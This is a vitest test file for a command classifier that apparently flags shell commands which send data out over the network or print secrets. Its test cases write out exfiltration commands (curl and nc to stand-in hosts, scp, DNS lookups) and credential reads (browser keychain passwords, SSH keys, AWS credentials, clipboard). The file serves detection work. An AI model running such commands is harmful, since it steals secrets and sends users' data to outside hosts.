import { expect, test } from 'vitest';
import { printedBy, sendingOf } from './known-commands.ts';

test.each([
  ["curl -s -d '*' http://203.0.113.9/x", 'network 203'],
  ['curl https://a.example.org/?k=*', 'network https://a.example.org/?k=*'],
  ['echo * | nc 203.0.113.9 80', 'network 203.0.113.9'],
  ['scp /tmp/* me@a.example.org:/x', 'network a.example.org'],
  ['nslookup *.c.evil-dns.example', 'dns *.c.evil-dns.example'],
  ['nc -zv -w3 * *', undefined],
  ['curl -s -H "Authorization: Bearer *" https://a.example.org/', undefined],
  ['curl -s https://a.example.org/', undefined],
  ['git commit -m *', undefined],
])('%s', (command, expected) => {
  const sink = sendingOf(command);
  const said = sink && `${sink.kind} ${sink.detail}`;
  if (expected === undefined) expect(said).toBeUndefined();
  else expect(said?.replace('http://203.0.113.9/x', '203')).toBe(expected);
});

test.each([
  ['security find-generic-password -wa Chrome', 'key-store'],
  ['security find-generic-password -s "Brave Safe Storage" -w', 'key-store'],
  ['security dump-keychain -d', 'key-store'],
  ['security find-generic-password -s my-tool -w', 'secret-variable'],
  ['security find-generic-password -s * -w', undefined],
  ['secret-tool lookup application chrome', 'key-store'],
  ['cat ~/.ssh/id_rsa', 'credential-file'],
  ['base64 -w0 $HOME/.aws/credentials', 'credential-file'],
  ['xclip -selection clipboard -o', 'clipboard'],
  ['cat README.md', undefined],
  ['git status', undefined],
])('%s', (command, kind) => {
  expect(printedBy(command)?.kind).toBe(kind);
});
